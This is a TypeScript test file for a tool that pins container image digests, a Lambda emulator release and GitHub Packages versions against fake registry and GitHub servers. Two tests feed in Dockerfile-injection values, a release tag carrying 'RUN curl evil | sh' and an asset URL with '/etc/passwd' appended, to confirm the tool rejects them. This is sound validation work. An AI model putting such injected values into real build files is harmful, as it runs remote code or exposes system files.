import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { RetryPolicy } from './fetch-with-retry.ts';
import { resolveLivePins } from './live-pins.ts';
import { plainProgress, terminalProgress } from './lookup-progress.ts';
import { githubApi, packageVersion, release } from '../../test/support/fake-github.ts';
import { fakeRegistry } from '../../test/support/fake-registry.ts';
import { loopbackServer } from '../../test/support/loopback-server.ts';
import { blob, json } from '../../test/support/oci-image.ts';

const policy: RetryPolicy = { attempts: 2, timeoutMs: 1000, backoffMs: 10, maxRetryAfterMs: 1000 };

/** A GitHub API whose only release was tampered with by `change`. */
type Release = ReturnType<typeof release>;

async function tamperedGithub(change: (original: Release) => object) {
  return githubApi({
    before: (request, response, origin) => {
      if (!request.url?.includes('/releases')) return false;
      response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify([change(release(origin, 'v1.35'))]));
      return true;
    },
  });
}

async function resolveWith(githubApiUrl: string) {
  const registry = await fakeRegistry();
  const image = `${registry.host}/lambda/base:latest`;
  const lines: string[] = [];
  const pins = resolveLivePins(
    { images: [image], runtime: { image, platform: 'linux/amd64' }, goModules: [] },
    { githubApiUrl, githubToken: undefined, rieRange: undefined, policy, progress: plainProgress((line) => lines.push(line)), digestSource: 'registry', githubContainerRegistry: 'ghcr.io', goProxy: 'http://127.0.0.1:9' },
  );
  return { pins, lines, image };
}

describe('live pins', () => {
  it('reports each lookup as it starts and ends', async () => {
    const { origin } = await githubApi();
    const { pins, lines, image } = await resolveWith(origin);
    const resolved = await pins;
    assert.equal(resolved.rie.version, 'v1.35');
    assert.deepEqual(lines.filter((line) => line.startsWith('resolving')).sort(), [`resolving ${image}`, 'resolving RIE release of aws/aws-lambda-runtime-interface-emulator'].sort());
    assert.ok(lines.includes(`pinned ${image}: ${resolved.images[image]?.digest}`), lines.join('\n'));
    assert.ok(lines.includes('pinned RIE release of aws/aws-lambda-runtime-interface-emulator: v1.35'), lines.join('\n'));
  });

  it('refuses a release tag that could break out of a Dockerfile line', async () => {
    const { origin } = await tamperedGithub((original) => ({ ...original, tag_name: 'v1.35\nRUN curl evil | sh' }));
    const { pins } = await resolveWith(origin);
    await assert.rejects(pins, /^InvalidInputError: live lookup\.rie\.version: "v1\.35\\nRUN curl evil \| sh" is not allowed; expected a release tag such as v1\.35$/);
  });

  it('refuses an asset URL that could break out of a Dockerfile line', async () => {
    const { origin } = await tamperedGithub((original) => ({
      ...original,
      assets: original.assets.map((asset) => ({ ...asset, browser_download_url: `${asset.browser_download_url} /etc/passwd` })),
    }));
    const { pins } = await resolveWith(origin);
    await assert.rejects(pins, /^InvalidInputError: live lookup\.rie\.assets\.x86_64\.url: ".* \/etc\/passwd" is not allowed; expected an http\(s\) URL without spaces or quotes$/);
  });

  it('draws a spinner line on a terminal, keeps results on lines of their own, and clears it at the end', () => {
    let screen = '';
    const progress = terminalProgress({ columns: 60, write: (chunk: string | Uint8Array) => ((screen += String(chunk)), true) });
    progress.start('node:24-alpine');
    assert.match(screen, /^\r\x1b\[2K⠋ resolving node:24-alpine$/);
    progress.start('RIE release');
    assert.match(screen, /\r\x1b\[2K⠙ resolving node:24-alpine, RIE release$/);
    progress.done('node:24-alpine', 'sha256:abc');
    assert.match(screen, /\r\x1b\[2K✔ node:24-alpine: sha256:abc\n\r\x1b\[2K⠹ resolving RIE release$/);
    progress.stop();
    assert.ok(screen.endsWith('\r\x1b[2K'), 'the spinner line is cleared');
  });
});

describe('an index without a manifest for the function\'s platform', () => {
  const indexType = 'application/vnd.oci.image.index.v1+json';
  const manifestType = 'application/vnd.oci.image.manifest.v1+json';
  const entry = (digest: string, architecture: string, os = 'linux') => ({ mediaType: manifestType, digest, size: 100, platform: { architecture, os } });
  const good = `sha256:${'a'.repeat(64)}`;

  /** Resolves a base image whose tag serves `index` (an object, made JSON) for a function on linux/amd64. */
  async function resolveIndex(index: unknown) {
    const served = blob(json(index), indexType);
    const origin = await loopbackServer((request, response) => {
      response.writeHead(200, { 'content-type': indexType, 'docker-content-digest': served.digest }).end(request.method === 'HEAD' ? undefined : served.bytes);
    });
    const { origin: githubApiUrl } = await githubApi();
    const image = `${origin.replace('http://', '')}/lambda/base:latest`;
    const pins = resolveLivePins(
      { images: [image], runtime: { image, platform: 'linux/amd64' }, goModules: [] },
      { githubApiUrl, githubToken: undefined, rieRange: undefined, policy, progress: plainProgress(() => {}), digestSource: 'registry', githubContainerRegistry: 'ghcr.io', goProxy: 'http://127.0.0.1:9' },
    );
    return { pins, image };
  }

  it('is refused when it holds only attestations (unknown/unknown)', async () => {
    const { pins } = await resolveIndex({ schemaVersion: 2, mediaType: indexType, manifests: [entry(good, 'unknown', 'unknown')] });
    await assert.rejects(pins, /^LookupError: image .*\/lambda\/base:latest has no manifest for linux\/amd64; it has: none$/);
  });

  it('is refused when another platform is all it has', async () => {
    const { pins } = await resolveIndex({ schemaVersion: 2, mediaType: indexType, manifests: [entry(good, 'arm64')] });
    await assert.rejects(pins, /has no manifest for linux\/amd64; it has: linux\/arm64$/);
  });

  it('is refused when its manifests are not a list', async () => {
    const { pins } = await resolveIndex({ schemaVersion: 2, mediaType: indexType, manifests: { 'linux/amd64': entry(good, 'amd64') } });
    await assert.rejects(pins, /: the index's "manifests" is not a list; refused$/);
  });

  it('is refused when it is neither an index nor an image manifest', async () => {
    const { pins } = await resolveIndex({ schemaVersion: 2 });
    await assert.rejects(pins, /: the manifest is neither an image index nor an image manifest; refused$/);
  });

  it('refuses an entry whose digest is not sha256 and 64 hex digits: md5, short, upper case, or not text', async () => {
    for (const digest of [`md5:${'a'.repeat(32)}`, 'sha256:abc', `sha256:${'A'.repeat(64)}`, 42]) {
      const { pins } = await resolveIndex({ schemaVersion: 2, mediaType: indexType, manifests: [entry(digest as string, 'amd64'), entry(good, 'arm64')] });
      await assert.rejects(pins, /: the index's entry for linux\/amd64 has digest .* not "sha256:" and 64 hex digits; refused$/, String(digest));
    }
  });
});

describe('an image given with its digest', () => {
  async function resolveGiven(digest: (served: string) => string) {
    const registry = await fakeRegistry();
    const { origin } = await githubApi();
    const image = `${registry.host}/lambda/base:latest`;
    const given = digest(registry.imageOf('lambda/base').index.digest) as `sha256:${string}`;
    const pins = resolveLivePins(
      { images: [image], runtime: { image, platform: 'linux/amd64' }, goModules: [], givenDigests: { [image]: given } },
      { githubApiUrl: origin, githubToken: undefined, rieRange: undefined, policy, progress: plainProgress(() => {}), digestSource: 'registry', githubContainerRegistry: 'ghcr.io', goProxy: 'http://127.0.0.1:9' },
    );
    return { pins, image, registry, given };
  }

  it('is pinned as given when the registry serves that manifest, with its platforms checked', async () => {
    const { pins, image, given } = await resolveGiven((served) => served);
    const resolved = await pins;
    assert.equal(resolved.images[image]?.digest, given);
    assert.ok(resolved.images[image]?.platforms?.['linux/amd64']);
  });

  it('is refused when the registry does not serve that digest', async () => {
    const { pins } = await resolveGiven(() => `sha256:${'c'.repeat(64)}`);
    await assert.rejects(pins, /: asked for the given digest sha256:c{64}, the registry answered sha256:[0-9a-f]{64}; refused$/);
  });
});

describe('digests through GitHub Packages', () => {
  const token = 'ghp_packagestokenthatmustnotleak000000001';

  async function bothSources(repository: string, owner: 'orgs' | 'users', tag = 'latest', published = true) {
    const registry = await fakeRegistry();
    const digest = registry.imageOf(repository).index.digest;
    const [ownerName, packageName] = repository.split('/');
    const github = await githubApi({
      packages: (kind, who, name) =>
        published && kind === owner && who === ownerName && name === packageName
          ? [packageVersion(2, `sha256:${'e'.repeat(64)}`, ['previous']), packageVersion(1, digest, ['latest', '2026.11'])]
          : undefined,
    });
    const image = `${registry.host}/${repository}:${tag}`;
    const resolve = (digestSource: 'registry' | 'github-packages', withToken = true) =>
      resolveLivePins(
        { images: [image], runtime: { image, platform: 'linux/amd64' }, goModules: [] },
        { githubApiUrl: github.origin, githubToken: withToken ? token : undefined, rieRange: undefined, policy, progress: plainProgress(() => {}), digestSource, githubContainerRegistry: registry.host, goProxy: 'http://127.0.0.1:9' },
      );
    return { registry, github, image, digest, resolve };
  }

  it('agrees with the registry, for an organisation\'s package and a user\'s', async () => {
    for (const [repository, owner] of [['lambda/base', 'orgs'], ['someone/tool', 'users']] as const) {
      const { github, image, digest, resolve } = await bothSources(repository, owner);
      const fromRegistry = await resolve('registry');
      const fromPackages = await resolve('github-packages');
      assert.equal(fromPackages.images[image]?.digest, fromRegistry.images[image]?.digest);
      assert.equal(fromPackages.images[image]?.digest, digest);
      assert.ok(github.seen.packageAuthorizations.every((header) => header === `token ${token}`));
    }
  });

  it('needs a token, and names a missing tag or package', async () => {
    const { resolve, image } = await bothSources('lambda/base', 'orgs');
    await assert.rejects(resolve('github-packages', false), new RegExp(`^LookupError: --digest-source github-packages needs GITHUB_TOKEN \\(or GH_TOKEN\\) with read:packages, for ${image.replaceAll('.', '\\.')}$`));
    const retagged = await bothSources('lambda/base', 'orgs', 'v9');
    await assert.rejects(retagged.resolve('github-packages'), /^LookupError: GitHub Packages, container lambda\/base: no version is tagged v9$/);
    const unowned = await bothSources('nobody/base', 'orgs', 'latest', false);
    await assert.rejects(unowned.resolve('github-packages'), /^LookupError: GitHub Packages, container nobody\/base: HTTP 404 Package not found\.$/);
  });
});
